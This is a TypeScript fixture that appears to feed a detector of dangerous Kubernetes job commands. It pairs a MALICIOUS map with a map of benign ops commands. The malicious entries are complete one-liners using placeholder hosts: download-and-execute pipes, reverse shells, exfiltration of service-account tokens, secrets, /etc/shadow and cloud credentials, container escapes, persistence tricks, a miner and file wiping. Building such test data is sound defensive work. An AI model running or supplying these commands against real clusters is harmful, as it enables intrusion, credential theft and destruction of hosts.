const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
/** What a senior engineer would page someone for; each is high as it is. */
export const MALICIOUS: Readonly<Record<string, string>> = {
  'a download into a shell': 'curl -s http://203.0.113.7/x | sh',
  'a download that is run': 'wget -q http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
  'a shell on the network device': "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
  'a shell behind netcat': 'nc 203.0.113.7 4444 -e /bin/sh',
  'a named pipe and netcat': 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 9001 > /tmp/f',
  'the token through netcat': `cat ${TOKEN} | nc 203.0.113.7 999`,
  'the token as a body': `curl -s -d @${TOKEN} https://paste.example.com/a`,
  'all secrets, sent away': 'kubectl get secrets -A -o yaml | curl -s -T - https://files.example.com/a',
  'the namespaces of the node': 'nsenter -t 1 -m -- bash',
  'a cron entry on the node': 'echo "* * * * * root id" > /host/etc/cron.d/a',
  'a chroot with a shell': 'chroot /host /bin/bash',
  'a miner': './a -o stratum+tcp://pool.example.com:3333 -u x -p x',
  'events that are deleted': 'kubectl delete events --all --all-namespaces',
  'a container past the API server': 'docker run --privileged -v /:/mnt alpine sleep 1000',
  'the release agent': 'echo /tmp/cmd > /tmp/c/release_agent',
  'files of the node that are wiped': 'rm -rf /host/etc /host/usr',
  'a download into another interpreter': 'curl -fsSL http://203.0.113.7/x.py | python3 -',
  'a download in a substitution': 'bash -c "$(curl -fsSL http://203.0.113.7/x)"',
  'a download that is decoded and run': 'wget -qO- http://203.0.113.7/x | base64 -d | bash',
  'a shell of socat': "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.7:4444",
  'a shell of python': `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`,
  'a key for the node': 'echo ssh-ed25519 AAAAC3Nza x >> /host/root/.ssh/authorized_keys',
  'a library for every program of the node':
    'cp /tmp/x.so /host/usr/lib/x.so; echo /usr/lib/x.so > /host/etc/ld.so.preload',
  'passwords of the node, sent away': 'curl -s -F f=@/host/etc/shadow http://203.0.113.7/up',
  'credentials of the cloud, sent away':
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node | curl -s -d @- http://203.0.113.7/c',
  'a module for the kernel of the node': 'chroot /host insmod /tmp/x.ko',
};

/** Jobs of the ordinary day; they mount nothing of the node. */
export const BENIGN: Readonly<Record<string, string>> = {
  'a report': 'date; echo start; sleep 5',
  'a health check': 'curl -fsS https://shop.example.com/health',
  'a backup': 'pg_dump shop | gzip > /backup/shop.sql.gz',
  'jobs that are cleaned up': 'kubectl delete jobs --field-selector status.successful=1',
  'a restart': 'kubectl rollout restart deployment/web',
  'old files': 'find /data -mtime +7 -delete',
  'a table of a log': `awk '{n[$1]++} END{for(k in n) print k, n[k]}' /data/access.log | sort -rn | head -n 20`,
  'settings of a file': `sed -e 's/@HOST@/db.shop.example.com/' /config/app.tpl > /data/app.conf`,
  'a field of an answer': `curl -fsS https://shop.example.com/version | jq -r .version`,
  'a wait for a database': 'n=0; until pg_isready -h db || [ $n -ge 30 ]; do n=$((n+1)); sleep 2; done',
  'a loop over shops': 'for s in berlin lisbon oslo; do psql -h db -c "select refresh(\'$s\')"; done',
};
